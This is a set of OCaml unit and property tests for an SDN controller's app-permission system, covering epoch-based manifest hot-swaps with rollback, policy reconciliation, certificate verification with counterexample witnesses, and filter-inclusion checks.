              (Epoch.apply t (Market.upgrade "a" "PERM read_statistics\nPERM insert_flow"))
          in
          Alcotest.(check string) (stage_name ^ " names the stage") stage_name r.stage;
          Alcotest.(check int) (stage_name ^ " keeps the epoch") 1 r.at_epoch);
      (* Fail-safe for existing traffic: the old record still serves. *)
      Test_util.check_allow (stage_name ^ ": old epoch serves") (ck.Api.check stats_call);
      Test_util.check_deny (stage_name ^ ": new grant never landed") (ck.Api.check (insert ()));
      Alcotest.(check bool) (stage_name ^ ": consistent") true (Epoch.consistent t);
      (* And the engine recovers: the same upgrade commits once disarmed. *)
      let c = committed (stage_name ^ ": retry") (Epoch.apply t (Market.upgrade "a" "PERM read_statistics\nPERM insert_flow")) in
      Alcotest.(check int) (stage_name ^ ": retry commits next epoch") 2 c.epoch;
      Test_util.check_allow (stage_name ^ ": new grant serves after retry") (ck.Api.check (insert ()));
      Epoch.close t)
    sites

let test_failed_install_is_fail_closed () =
  let t = deploy () in
  Fun.protect ~finally:Faults.disarm (fun () ->
      Faults.configure ~swap_publish:1.0 ();
      ignore (rolled_back "faulted install" (Epoch.apply t (Market.install "x" "PERM read_statistics"))));
  Test_util.check_deny "denied admission ⇒ checker denies"
    ((Epoch.checker t "x").Api.check stats_call);
  Alcotest.(check (list (pair string int))) "not admitted" [] (Epoch.apps t);
  Epoch.close t

(* Delta re-reconciliation --------------------------------------------------- *)

let test_delta_vs_full () =
  (* Two independent per-app boundaries: each app's lifecycle only
     touches its own statement, so the delta path applies. *)
  let t =
    deploy
      ~policy:
        "LET a = APP a\nASSERT a <= { PERM read_statistics }\n\
         LET b = APP b\nASSERT b <= { PERM insert_flow }"
      ()
  in
  let ca = committed "install a" (Epoch.apply t (Market.install "a" "PERM read_statistics")) in
  Alcotest.(check bool) "a reconciled by delta" true ca.delta;
  Alcotest.(check (list string)) "delta republishes nothing else" [] ca.republished;
  let cb = committed "install b" (Epoch.apply t (Market.install "b" "PERM insert_flow")) in
  Alcotest.(check bool) "b reconciled by delta" true cb.delta;
  let deltas, fulls = Epoch.reconcile_counts t in
  Alcotest.(check int) "two delta runs" 2 deltas;
  Alcotest.(check int) "no full runs" 0 fulls;
  Epoch.close t;
  (* An exclusivity constraint ranges over every app: no statement can
     be skipped, so lifecycle transactions take the whole-policy path. *)
  let t2 =
    deploy
      ~policy:"ASSERT EITHER { PERM network_access } OR { PERM insert_flow }"
      ()
  in
  let c = committed "install" (Epoch.apply t2 (Market.install "a" "PERM insert_flow")) in
  Alcotest.(check bool) "global constraint forces full" false c.delta;
  let deltas2, fulls2 = Epoch.reconcile_counts t2 in
  Alcotest.(check int) "no delta runs" 0 deltas2;
  Alcotest.(check bool) "full runs counted" true (fulls2 > 0);
  Epoch.close t2

let test_revoke_republishes_dependents () =
  (* b is bounded by a's manifest: revoking a shrinks the bound (an
     absent app's manifest is empty), so b must be republished
     truncated in the same commit. *)
  let t =
    deploy
      ~policy:"LET a = APP a\nLET b = APP b\nASSERT b <= a"
      ()
  in
  ignore (committed "install a" (Epoch.apply t (Market.install "a" "PERM read_statistics\nPERM insert_flow")));
  ignore (committed "install b" (Epoch.apply t (Market.install "b" "PERM read_statistics")));
  let ckb = Epoch.checker t "b" in
  Test_util.check_allow "b inside a's bound" (ckb.Api.check stats_call);
  let c = committed "revoke a" (Epoch.apply t (Market.revoke "a")) in
  Alcotest.(check (list string)) "b republished with the revocation" [ "b" ] c.republished;
  Test_util.check_deny "b truncated to the empty bound" (ckb.Api.check stats_call);
  Alcotest.(check bool) "consistent" true (Epoch.consistent t);
  Epoch.close t

(* Market wiring -------------------------------------------------------------- *)

let test_market_integration () =
  let t = deploy ~policy:boundary_policy () in
  let sandbox = Sandbox.create () in
  let m = Epoch.market ~sandbox t in
  ignore (Market.submit m (Market.install "mon" "PERM read_statistics"));
  ignore (Market.submit m (Market.upgrade "mon" "PERM read_statistics"));
  ignore (Market.submit m (Market.revoke "mon"));
  ignore (Market.submit m (Market.revoke "mon"));
  Market.shutdown m;
  let s = Market.stats m in
  Alcotest.(check int) "three commits" 3 s.Market.commits;
  Alcotest.(check int) "one rollback" 1 s.Market.rollbacks;
  Alcotest.(check int) "epoch counts commits" 3 (Epoch.epoch t);
  Alcotest.(check bool) "rollback notified via audit" true
    (List.exists
       (fun (e : Sandbox.audit_entry) -> e.Sandbox.action = "market-rollback")
       (Forensics.fault_log sandbox));
  Epoch.close t

(* Swap consistency ----------------------------------------------------------- *)

(* The tentpole property: a call racing with hot-swaps is decided
   entirely on one epoch.  Old and new manifests grant disjoint IP
   ranges, so a torn evaluation — or a window where the app is
   spuriously absent — shows up as a (Deny, Deny) or (Allow, Allow)
   pair on a single pinned snapshot. *)
let qsuite_swap =
  [ QCheck.Test.make ~count:15 ~name:"hot-swap pins every call to one epoch"
      QCheck.(pair (int_range 0 200) (int_range 2 40))
      (fun (octet, flips) ->
        let o1 = octet mod 100 and o2 = (octet mod 100) + 100 in
        let src o = Printf.sprintf "PERM insert_flow LIMITING IP_DST 10.%d.0.0 MASK 255.255.0.0" o in
        let call o = insert ~nw_dst:(Printf.sprintf "10.%d.0.1" o) () in
        let t =
          match Epoch.create ~policy:"" () with
          | Ok t -> t
          | Error e -> failwith e
        in
        ignore (Epoch.apply t (Market.install "app" (src o1)));
        let live = Epoch.checker t "app" in
        let resolve =
          match live.Api.snapshot with
          | Some f -> f
          | None -> failwith "live checker must expose snapshot"
        in
        let stop = Atomic.make false in
        let flipper () =
          for i = 1 to flips do
            let o = if i land 1 = 1 then o2 else o1 in
            ignore (Epoch.apply t (Market.upgrade "app" (src o)))
          done;
          Atomic.set stop true
        in
        let ok = ref true in
        let reader () =
          while not (Atomic.get stop) do
            (* One snapshot, two probes: exactly one range is granted
               on any single epoch. *)
            let ck = resolve () in
            let d1 = ck.Api.check (call o1) and d2 = ck.Api.check (call o2) in
            (match (d1, d2) with
            | Api.Allow, Api.Deny _ | Api.Deny _, Api.Allow -> ()
            | _ -> ok := false)
          done
        in
        let rd = Domain.spawn reader in
        flipper ();
        Domain.join rd;
        let consistent = Epoch.consistent t in
        Epoch.close t;
        !ok && consistent) ]

let suite =
  [ Alcotest.test_case "install/upgrade/revoke lifecycle" `Quick
      test_install_upgrade_revoke;
    Alcotest.test_case "request validation" `Quick test_request_validation;
    Alcotest.test_case "rollback at every swap fault site" `Quick
      test_rollback_at_every_swap_site;
    Alcotest.test_case "failed install is fail-closed" `Quick
      test_failed_install_is_fail_closed;
    Alcotest.test_case "delta vs whole-policy reconciliation" `Quick
      test_delta_vs_full;
    Alcotest.test_case "revoke republishes dependents" `Quick
      test_revoke_republishes_dependents;
    Alcotest.test_case "market integration" `Quick test_market_integration ]
  @ List.map (QCheck_alcotest.to_alcotest ~long:false) qsuite_swap
