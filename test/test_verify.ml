(* shield-verify: certification of reconciled manifests
   (docs/VERIFY.md).

   Pins the ISSUE invariants:

   - every [Refuted] verdict carries concrete counterexample calls
     that [Filter_eval] confirms (admitted by the manifest side,
     escaping the bound), and the certificate's own cross-check —
     replaying those calls through [Engine], [Compiled] and
     [Automaton] — agrees;
   - reconciliation's repair actually works: the dirty corpus is
     refuted raw and certified post-repair;
   - budget exhaustion and [Nf.Too_large] degrade to [Unverified],
     never to a false [Certified], and [verify] never raises — not
     even on the hostile generators;
   - the [Inclusion] fallback directions the verifier's soundness
     rests on stay fail-closed: [includes → false],
     [satisfiable]/[overlap → true]. *)

open Shield_controller
open Sdnshield
module Hostile = Shield_workload.Hostile_gen
module Prng = Shield_workload.Prng

let manifest = Test_util.manifest_exn

let policy src =
  match Policy_parser.of_string src with
  | Ok p -> p
  | Error e -> Alcotest.failf "policy parse: %s" e

let read_example name =
  let candidates =
    [ Filename.concat "examples/verify" name;
      Filename.concat "../examples/verify" name ]
  in
  match List.find_opt Sys.file_exists candidates with
  | None -> Alcotest.failf "corpus file %s not found" name
  | Some path ->
    let ic = open_in_bin path in
    Fun.protect
      ~finally:(fun () -> close_in_noerr ic)
      (fun () -> really_input_string ic (in_channel_length ic))

let pure = Filter_eval.pure_env

(* Semantic soundness of a witness, re-derived from scratch. *)
let witness_sound (w : Verify.witness) : bool =
  let attrs = Attrs.of_call w.Verify.call in
  Filter_eval.eval pure (Perm.filter_of w.Verify.admitted_by w.Verify.token) attrs
  && (match w.Verify.escapes with
     | None -> true
     | Some bound ->
       not (Filter_eval.eval pure (Perm.filter_of bound w.Verify.token) attrs))

let witnesses_of (cert : Verify.certificate) =
  match cert.Verify.verdict with
  | Verify.Refuted cs -> List.concat_map (fun c -> c.Verify.witnesses) cs
  | _ -> []

(* Corpus ---------------------------------------------------------------------- *)

let test_dirty_refuted_soundly () =
  let m = manifest (read_example "dirty.manifest") in
  let p = policy (read_example "dirty.policy") in
  let cert = Verify.verify ~apps:[ ("app", m) ] p in
  (match cert.Verify.verdict with
  | Verify.Refuted _ -> ()
  | _ -> Alcotest.failf "expected Refuted, got %s" (Verify.verdict_label cert));
  let ws = witnesses_of cert in
  Alcotest.(check bool) "at least one witness" true (ws <> []);
  List.iter
    (fun w ->
      Alcotest.(check bool) "witness confirmed by Filter_eval" true
        (witness_sound w))
    ws;
  Alcotest.(check bool) "witnesses replayed through the checkers" true
    (cert.Verify.crosscheck.Verify.replayed > 0);
  Alcotest.(check bool) "Engine/Compiled/Automaton agree" true
    cert.Verify.crosscheck.Verify.checkers_agree

let test_dirty_certified_after_repair () =
  let m = manifest (read_example "dirty.manifest") in
  let p = policy (read_example "dirty.policy") in
  let report = Reconcile.run ~apps:[ ("app", m) ] p in
  let cert = Verify.verify_report p report in
  Alcotest.(check bool)
    (Fmt.str "reconciled dirty manifest certifies (got %s)"
       (Verify.verdict_label cert))
    true (Verify.certified cert)

let test_clean_certified () =
  let m = manifest (read_example "clean.manifest") in
  let p = policy (read_example "clean.policy") in
  let cert = Verify.verify ~apps:[ ("app", m) ] p in
  Alcotest.(check string) "clean corpus certifies" "certified"
    (Verify.verdict_label cert)

(* Budget degradation ---------------------------------------------------------- *)

let test_budget_degrades_to_unverified () =
  let m = manifest (read_example "dirty.manifest") in
  let p = policy (read_example "dirty.policy") in
  let limits = { Budget.default_limits with Budget.max_steps = 2 } in
  match Verify.verify ~limits ~apps:[ ("app", m) ] p with
  | cert -> (
    match cert.Verify.verdict with
    | Verify.Certified ->
      Alcotest.fail "exhausted budget certified a violating manifest"
    | Verify.Refuted _ | Verify.Unverified _ -> ())
  | exception exn ->
    Alcotest.failf "verify raised under an exhausted budget: %s"
      (Printexc.to_string exn)

(* Obligation shapes ----------------------------------------------------------- *)

(* NOT over a certifiably-true comparison has no call-level
   counterexample; the verdict must stay fail-closed (Unverified),
   never flip the lattice's sound positive into a Refuted — and
   certainly never Certified. *)
let test_not_is_fail_closed () =
  let p =
    policy
      "LET narrow = { PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK \
       255.0.0.0 }\n\
       LET wide = { PERM insert_flow }\n\
       ASSERT NOT (narrow <= wide)"
  in
  let cert = Verify.verify ~apps:[ ("app", []) ] p in
  Alcotest.(check string) "NOT of a provable inclusion is Unverified"
    "unverified" (Verify.verdict_label cert)

let test_exclusivity_refuted_with_two_witnesses () =
  let m =
    manifest "PERM read_statistics\nPERM modify_topology"
  in
  let p =
    policy "ASSERT EITHER { PERM read_statistics } OR { PERM modify_topology }"
  in
  let cert = Verify.verify ~apps:[ ("app", m) ] p in
  match cert.Verify.verdict with
  | Verify.Refuted [ c ] ->
    Alcotest.(check int) "one witness per exclusive set" 2
      (List.length c.Verify.witnesses);
    List.iter
      (fun w ->
        Alcotest.(check bool) "exclusivity witness confirmed" true
          (witness_sound w))
      c.Verify.witnesses
  | _ ->
    Alcotest.failf "expected a single exclusivity counterexample, got %s"
      (Verify.verdict_label cert)

(* An unrepairable shape: JOIN on the left means reconcile can only
   Alert_only; verification must keep refuting the un-repaired
   manifests rather than report success. *)
let test_unrepairable_stays_refuted () =
  let m = manifest "PERM modify_topology" in
  let p =
    policy
      "LET a = APP app\n\
       ASSERT a JOIN a <= { PERM read_statistics }"
  in
  let report = Reconcile.run ~apps:[ ("app", m) ] p in
  let cert = Verify.verify_report p report in
  Alcotest.(check string) "Alert_only violation is still refuted" "refuted"
    (Verify.verdict_label cert);
  List.iter
    (fun w ->
      Alcotest.(check bool) "witness confirmed" true (witness_sound w))
    (witnesses_of cert)

(* Minimality of repairs (docs/VERIFY.md "Minimality") ------------------------- *)

(* A reconciliation report as a buggy repair pass would publish it:
   the recorded Truncated_to_boundary repair [before -> after] strips
   more than MEET(original, boundary). *)
let overtruncated_report () =
  let before = manifest (read_example "dirty.manifest") in
  let after = manifest (read_example "overtruncated.manifest") in
  let p = policy (read_example "dirty.policy") in
  let stmt =
    match List.find_opt (function Policy.Assert _ -> true | _ -> false) p with
    | Some s -> s
    | None -> Alcotest.fail "dirty.policy has no ASSERT statement"
  in
  ( p,
    { Reconcile.manifests = [ ("app", after) ];
      violations =
        [ { Reconcile.stmt;
            app = Some "app";
            message = "simulated buggy boundary truncation";
            action = Reconcile.Truncated_to_boundary;
            before;
            after } ];
      unresolved_macros = [] } )

let test_honest_repair_is_minimal () =
  let m = manifest (read_example "dirty.manifest") in
  let p = policy (read_example "dirty.policy") in
  let report = Reconcile.run ~apps:[ ("app", m) ] p in
  let cert = Verify.verify_report p report in
  Alcotest.(check string) "reconcile's own repair certifies minimal" "minimal"
    (Verify.minimality_label cert)

let test_overtruncation_yields_slack () =
  let p, report = overtruncated_report () in
  let cert = Verify.verify_report p report in
  match cert.Verify.minimality with
  | Verify.Slack (_ :: _ as ws) ->
    let before = manifest (read_example "dirty.manifest") in
    let after = manifest (read_example "overtruncated.manifest") in
    (* The boundary of dirty.policy's ASSERT, re-parsed from scratch. *)
    let bound =
      manifest
        "PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0 AND \
         MAX_PRIORITY 32000\n\
         PERM read_statistics\n\
         PERM pkt_in_event"
    in
    let least = Perm_ops.meet before bound in
    List.iter
      (fun (w : Verify.witness) ->
        Alcotest.(check bool) "slack witness sound as a witness" true
          (witness_sound w);
        let attrs = Attrs.of_call w.Verify.call in
        Alcotest.(check bool) "allowed by MEET(original, boundary)" true
          (Filter_eval.eval pure (Perm.filter_of least w.Verify.token) attrs);
        Alcotest.(check bool) "denied by the published repair" false
          (Filter_eval.eval pure (Perm.filter_of after w.Verify.token) attrs))
      ws;
    Alcotest.(check bool) "slack witnesses replay through the checkers" true
      (cert.Verify.crosscheck.Verify.replayed > 0);
    Alcotest.(check bool) "checkers agree on the slack witnesses" true
      cert.Verify.crosscheck.Verify.checkers_agree
  | Verify.Slack [] -> Alcotest.fail "Slack with an empty witness list"
  | m -> Alcotest.failf "expected Slack, got %a" Verify.pp_minimality m

let test_minimality_exhaustion_is_unknown () =
  let p, report = overtruncated_report () in
  let limits = { Budget.default_limits with Budget.max_steps = 2 } in
  match Verify.verify_report ~limits p report with
  | cert -> (
    match cert.Verify.minimality with
    | Verify.Unknown_minimality _ -> ()
    | Verify.Minimal ->
      Alcotest.fail "exhausted budget certified an over-truncation minimal"
    | Verify.Slack _ ->
      Alcotest.fail "exhausted budget still synthesized slack witnesses")
  | exception exn ->
    Alcotest.failf "verify_report raised under an exhausted budget: %s"
      (Printexc.to_string exn)

(* Fail-closed Inclusion fallbacks (the audit the verifier rests on) ----------- *)

let test_inclusion_fallback_directions () =
  let bomb = Hostile.cross_bomb ~atoms:80 in
  (* cross_bomb's DNF is |atoms|^2 clauses — 6400, past every guard
     below.  [True] includes every filter semantically, so a [false]
     answer here can only be the conservative fallback: the direction
     that keeps shield-verify sound (an unprovable obligation degrades
     to Unknown, never to a certified pass).  Reflexive queries dodge
     the blow-up through the syntactic-equality fast path, so the
     right-hand side must differ. *)
  Alcotest.(check bool) "includes degrades to FALSE" false
    (Inclusion.filter_includes ~max_clauses:64 Filter.True bomb);
  (* cross_bomb is port-disjoint — provably unsatisfiable with enough
     clauses — so a [true] here is the conservative direction: an
     overlap we cannot disprove stays an armed exclusivity constraint. *)
  Alcotest.(check bool) "satisfiable degrades to TRUE" true
    (Inclusion.filter_satisfiable ~max_clauses:64 bomb);
  let mb = [ { Perm.token = Token.Insert_flow; filter = bomb } ] in
  Alcotest.(check bool) "overlap degrades to TRUE" true
    (Inclusion.manifests_overlap mb mb)

(* Vetting carries the certificate --------------------------------------------- *)

let test_vetting_carries_certificate () =
  match
    Vetting.vet_and_reconcile
      ~apps:[ ("app", read_example "dirty.manifest") ]
      (read_example "dirty.policy")
  with
  | Vetting.Admitted { Vetting.certificate; _ }
  | Vetting.Degraded ({ Vetting.certificate; _ }, _) -> (
    match certificate with
    | None -> Alcotest.fail "vet_and_reconcile produced no certificate"
    | Some cert ->
      Alcotest.(check bool)
        (Fmt.str "post-repair admission certifies (got %s)"
           (Verify.verdict_label cert))
        true (Verify.certified cert))
  | Vetting.Rejected r ->
    Alcotest.failf "rejected: %s" (Fmt.str "%a" Vetting.pp_rejection r)

(* Counters and rendering ------------------------------------------------------ *)

let test_counters_reach_telemetry () =
  Verify.reset_stats ();
  let m = manifest (read_example "clean.manifest") in
  let p = policy (read_example "clean.policy") in
  ignore (Verify.verify ~apps:[ ("app", m) ] p);
  let dm = manifest (read_example "dirty.manifest") in
  let dp = policy (read_example "dirty.policy") in
  ignore (Verify.verify ~apps:[ ("app", dm) ] dp);
  let s = Verify.stats () in
  Alcotest.(check int) "one certified" 1 s.Verify.certified_n;
  Alcotest.(check int) "one refuted" 1 s.Verify.refuted_n;
  let gauges = Metrics.gauge_report () in
  List.iter
    (fun name ->
      Alcotest.(check bool) (name ^ " gauge registered") true
        (List.mem_assoc name gauges))
    [ "verify-certified"; "verify-refuted"; "verify-unverified";
      "verify-minimal"; "verify-slack"; "verify-unknown-minimality" ]

let test_json_rendering () =
  let m = manifest (read_example "dirty.manifest") in
  let p = policy (read_example "dirty.policy") in
  let cert = Verify.verify ~apps:[ ("app", m) ] p in
  let json = Verify.json_of_certificate cert in
  match Telemetry.Json.of_string (Telemetry.Json.to_string json) with
  | Error e -> Alcotest.failf "certificate JSON does not re-parse: %s" e
  | Ok j -> (
    (match Telemetry.Json.member "verdict" j with
    | Some (Telemetry.Json.Str "refuted") -> ()
    | _ -> Alcotest.fail "verdict field missing or wrong");
    match Telemetry.Json.member "minimality" j with
    | Some (Telemetry.Json.Obj _) -> ()
    | _ -> Alcotest.fail "minimality field missing or wrong")

(* Checker-composition regression (check --automaton --explain --cache):
   the CLI builds exactly this engine, so pin at the library layer
   that the automaton strategy still produces explanations and cache
   provenance instead of silently dropping either. *)
let test_automaton_explain_cache_compose () =
  let m = manifest (read_example "clean.manifest") in
  let e =
    Engine.create ~record_state:false ~strategy:`Automaton
      ~cache_size:Decision_cache.default_max_entries
      ~ownership:(Ownership.create ())
      ~app_name:"compose" ~cookie:1 m
  in
  Alcotest.(check bool) "automaton stats exposed" true
    (Engine.automaton_stats e <> None);
  let call =
    Api.Install_flow
      ( 1,
        Shield_openflow.Flow_mod.add
          ~match_:
            (Shield_openflow.Match_fields.make
               ~nw_dst:
                 (Shield_openflow.Match_fields.exact_ip
                    (Shield_openflow.Types.ipv4_of_string "10.0.0.1"))
               ())
          ~actions:[ Shield_openflow.Action.Output 2 ] () )
  in
  let _, info1 = Engine.check_explained e call in
  Alcotest.(check bool) "--explain still explains under --automaton" true
    (info1.Api.explain <> None);
  let _, info2 = Engine.check_explained e call in
  Alcotest.(check bool) "--cache provenance visible under --automaton" true
    (info2.Api.cache <> Api.Uncached);
  Metrics.unregister_cache "engine:compose"

(* Properties ------------------------------------------------------------------ *)

let qsuite =
  [ QCheck.Test.make ~count:40
      ~name:"verify never raises on assertion-heavy hostile inputs"
      QCheck.small_nat
      (fun seed ->
        let manifest_src, policy_src = Hostile.assertion_heavy ~seed in
        let m = Test_util.manifest_exn manifest_src in
        let p =
          match Policy_parser.of_string policy_src with
          | Ok p -> p
          | Error e -> QCheck.Test.fail_reportf "policy parse: %s" e
        in
        ignore (Verify.verify ~apps:[ ("app", m) ] p);
        true);
    QCheck.Test.make ~count:40
      ~name:"refuted counterexamples replay soundly and checkers agree"
      (QCheck.pair QCheck.small_nat (QCheck.int_range 0 254))
      (fun (seed, octet) ->
        (* A seeded manifest against a narrow random boundary: most
           draws are refutable, and every refutation must be sound. *)
        let m =
          Test_util.manifest_exn (fst (Hostile.assertion_heavy ~seed))
        in
        let p =
          policy
            (Printf.sprintf
               "LET a = APP app\n\
                ASSERT a <= { PERM insert_flow LIMITING IP_DST 10.%d.0.0 \
                MASK 255.255.0.0 AND MAX_PRIORITY 500\n\
                PERM read_statistics LIMITING FLOW_LEVEL\n\
                PERM pkt_in_event }"
               octet)
        in
        let cert = Verify.verify ~apps:[ ("app", m) ] p in
        match cert.Verify.verdict with
        | Verify.Refuted _ ->
          List.for_all witness_sound (witnesses_of cert)
          && cert.Verify.crosscheck.Verify.checkers_agree
        | Verify.Certified | Verify.Unverified _ -> true);
    QCheck.Test.make ~count:40
      ~name:"slack witnesses are in MEET(original, boundary) \\ repaired"
      (QCheck.pair QCheck.small_nat (QCheck.int_range 0 254))
      (fun (seed, octet) ->
        (* Reconcile a seeded manifest against a narrow boundary, then
           corrupt every boundary repair by a further unjustified
           truncation.  Whenever the minimality pass reports Slack,
           each witness must be (re-derived from scratch) allowed by
           MEET(original, boundary) and denied by the published
           repaired manifest — and the certificate's cross-check must
           have replayed it identically through Engine, Compiled and
           Automaton. *)
        let m = Test_util.manifest_exn (fst (Hostile.assertion_heavy ~seed)) in
        let bound_src =
          Printf.sprintf
            "PERM insert_flow LIMITING IP_DST 10.%d.0.0 MASK 255.255.0.0 AND \
             MAX_PRIORITY 500\n\
             PERM read_statistics LIMITING FLOW_LEVEL\n\
             PERM pkt_in_event"
            octet
        in
        let p =
          policy (Printf.sprintf "LET a = APP app\nASSERT a <= { %s }" bound_src)
        in
        let bound = Test_util.manifest_exn bound_src in
        let cap =
          Test_util.manifest_exn "PERM insert_flow LIMITING MAX_PRIORITY 1"
        in
        let report = Reconcile.run ~apps:[ ("app", m) ] p in
        let corrupt mf = Perm_ops.simplify (Perm_ops.meet mf cap) in
        let report =
          { report with
            Reconcile.manifests =
              List.map (fun (a, mf) -> (a, corrupt mf)) report.Reconcile.manifests;
            violations =
              List.map
                (fun (v : Reconcile.violation) ->
                  if v.Reconcile.action = Reconcile.Truncated_to_boundary then
                    { v with Reconcile.after = corrupt v.Reconcile.after }
                  else v)
                report.Reconcile.violations }
        in
        let cert = Verify.verify_report p report in
        match cert.Verify.minimality with
        | Verify.Slack ws ->
          ws <> []
          && List.for_all
               (fun (w : Verify.witness) ->
                 let attrs = Attrs.of_call w.Verify.call in
                 let least =
                   match
                     List.find_opt
                       (fun (v : Reconcile.violation) ->
                         v.Reconcile.action = Reconcile.Truncated_to_boundary)
                       report.Reconcile.violations
                   with
                   | Some v -> Perm_ops.meet v.Reconcile.before bound
                   | None -> []
                 in
                 Filter_eval.eval pure
                   (Perm.filter_of least w.Verify.token)
                   attrs
                 && not
                      (Filter_eval.eval pure
                         (Perm.filter_of
                            (List.assoc "app" report.Reconcile.manifests)
                            w.Verify.token)
                         attrs))
               ws
          && cert.Verify.crosscheck.Verify.replayed > 0
          && cert.Verify.crosscheck.Verify.checkers_agree
        | Verify.Minimal | Verify.Unknown_minimality _ -> true);
    QCheck.Test.make ~count:40
      ~name:"minimality pass never raises on assertion-heavy repairs"
      QCheck.small_nat
      (fun seed ->
        (* The full reconcile-then-verify path with the minimality
           dimension enabled: [verify_report] must terminate with a
           certificate on every hostile seed, whatever the verdict. *)
        let manifest_src, policy_src = Hostile.assertion_heavy ~seed in
        let m = Test_util.manifest_exn manifest_src in
        let p =
          match Policy_parser.of_string policy_src with
          | Ok p -> p
          | Error e -> QCheck.Test.fail_reportf "policy parse: %s" e
        in
        let report = Reconcile.run ~apps:[ ("app", m) ] p in
        ignore (Verify.verify_report p report);
        true);
    QCheck.Test.make ~count:40
      ~name:"verify never raises on hostile filter ASTs"
      QCheck.(pair small_nat (int_range 1 120))
      (fun (seed, size) ->
        let rng = Prng.of_int seed in
        let f = Hostile.random_hostile_ast rng ~size in
        let m = Hostile.manifest_of_filter f in
        let p =
          policy
            "LET a = APP app\n\
             ASSERT a <= { PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK \
             255.0.0.0 }"
        in
        ignore (Verify.verify ~apps:[ ("app", m) ] p);
        true) ]

let suite =
  [ Alcotest.test_case "dirty corpus refuted soundly" `Quick
      test_dirty_refuted_soundly;
    Alcotest.test_case "dirty corpus certified after repair" `Quick
      test_dirty_certified_after_repair;
    Alcotest.test_case "clean corpus certified" `Quick test_clean_certified;
    Alcotest.test_case "budget degrades to Unverified" `Quick
      test_budget_degrades_to_unverified;
    Alcotest.test_case "NOT is fail-closed" `Quick test_not_is_fail_closed;
    Alcotest.test_case "exclusivity refuted with two witnesses" `Quick
      test_exclusivity_refuted_with_two_witnesses;
    Alcotest.test_case "unrepairable violation stays refuted" `Quick
      test_unrepairable_stays_refuted;
    Alcotest.test_case "honest repair certifies minimal" `Quick
      test_honest_repair_is_minimal;
    Alcotest.test_case "over-truncation yields confirmed Slack" `Quick
      test_overtruncation_yields_slack;
    Alcotest.test_case "minimality exhaustion degrades to Unknown" `Quick
      test_minimality_exhaustion_is_unknown;
    Alcotest.test_case "Inclusion fallbacks stay fail-closed" `Quick
      test_inclusion_fallback_directions;
    Alcotest.test_case "vetting carries the certificate" `Quick
      test_vetting_carries_certificate;
    Alcotest.test_case "verdict counters reach telemetry" `Quick
      test_counters_reach_telemetry;
    Alcotest.test_case "certificate JSON round-trips" `Quick
      test_json_rendering;
    Alcotest.test_case "automaton composes with explain and cache" `Quick
      test_automaton_explain_cache_compose ]
  @ List.map (QCheck_alcotest.to_alcotest ~long:false) qsuite
