(* Tests for Algorithm 1 — permission/filter inclusion (§V-B1) — and
   the normal forms it runs on.  The qcheck properties verify
   *soundness* against the evaluation semantics: whenever the algorithm
   claims A ⊇ B, every sampled call B admits must be admitted by A.
   (The algorithm is deliberately incomplete, so no completeness
   property is asserted.) *)

open Sdnshield

let filter = Test_util.filter_exn
let manifest = Test_util.manifest_exn
let includes = Inclusion.filter_includes

(* Singleton inclusion --------------------------------------------------------- *)

let test_pred_inclusion () =
  let wide = filter "IP_DST 10.0.0.0 MASK 255.0.0.0" in
  let narrow = filter "IP_DST 10.13.0.0 MASK 255.255.0.0" in
  let exact = filter "IP_DST 10.13.1.2" in
  Alcotest.(check bool) "/8 ⊇ /16" true (includes wide narrow);
  Alcotest.(check bool) "/16 ⊉ /8" false (includes narrow wide);
  Alcotest.(check bool) "/16 ⊇ exact" true (includes narrow exact);
  Alcotest.(check bool) "disjoint subnets" false
    (includes narrow (filter "IP_DST 10.14.0.0 MASK 255.255.0.0"));
  (* The paper's example: /24 permission includes the same /24. *)
  let p = filter "IP_DST 192.168.1.0 MASK 255.255.255.0" in
  Alcotest.(check bool) "reflexive" true (includes p p)

(* [singleton_disjoint] pins *range* disjointness on one dimension,
   NOT semantic emptiness of the conjunction: under the vacuous-pass
   convention (§IV-B) a call that lacks the dimension satisfies both
   singletons, so a disjoint pair can still admit behaviour.  The
   inclusion algorithm never consults it; the lint unsatisfiable-filter
   rule does (docs/LINTING.md). *)
let test_singleton_disjoint () =
  let open Filter in
  let disjoint = Inclusion.singleton_disjoint in
  let tcp n = Pred { field = F_tcp_dst; value = V_int n; mask = None } in
  let subnet a m =
    Pred
      { field = F_ip_dst;
        value = V_ip (Test_util.ip a);
        mask = Some (Test_util.ip m) }
  in
  Alcotest.(check bool) "two tcp ports" true (disjoint (tcp 80) (tcp 443));
  Alcotest.(check bool) "same tcp port" false (disjoint (tcp 80) (tcp 80));
  Alcotest.(check bool) "disjoint /16 subnets" true
    (disjoint
       (subnet "10.1.0.0" "255.255.0.0")
       (subnet "10.2.0.0" "255.255.0.0"));
  Alcotest.(check bool) "nested /8 ⊇ /16 not disjoint" false
    (disjoint
       (subnet "10.0.0.0" "255.0.0.0")
       (subnet "10.1.0.0" "255.255.0.0"));
  (* Cross-dimension pairs are incomparable, never "disjoint". *)
  Alcotest.(check bool) "cross-dimension" false
    (disjoint (tcp 80) (subnet "10.0.0.0" "255.0.0.0"));
  (* Scalar bound dimensions overlap structurally (both bound ranges
     contain small values), so no disjointness is claimed. *)
  Alcotest.(check bool) "priority bounds" false
    (disjoint (Max_priority 10) (Max_priority 900));
  Alcotest.(check bool) "drop vs forward" true
    (disjoint (Action_f A_drop) (Action_f A_forward));
  Alcotest.(check bool) "stats levels" true
    (disjoint
       (Stats_level Shield_openflow.Stats.Flow_level)
       (Stats_level Shield_openflow.Stats.Port_level));
  (* The range-disjointness-is-not-emptiness caveat, demonstrated: a
     call without the TCP dimension passes the conjunction of two
     "disjoint" port singletons (vacuous pass). *)
  let conj = Filter.conj (Atom (tcp 80)) (Atom (tcp 443)) in
  let stats_call =
    Shield_controller.Api.Read_stats
      (Shield_openflow.Stats.request Shield_openflow.Stats.Flow_level)
  in
  Alcotest.(check bool) "vacuous pass through a disjoint pair" true
    (Filter_eval.eval Filter_eval.pure_env conj (Attrs.of_call stats_call))

let test_cross_dimension_incomparable () =
  Alcotest.(check bool) "ip_dst vs ip_src" false
    (includes (filter "IP_DST 10.0.0.0 MASK 255.0.0.0")
       (filter "IP_SRC 10.0.0.0 MASK 255.0.0.0"));
  Alcotest.(check bool) "pred vs priority" false
    (includes (filter "MAX_PRIORITY 10") (filter "IP_DST 10.0.0.1"))

let test_scalar_inclusions () =
  Alcotest.(check bool) "max_priority" true
    (includes (filter "MAX_PRIORITY 100") (filter "MAX_PRIORITY 50"));
  Alcotest.(check bool) "max_priority rev" false
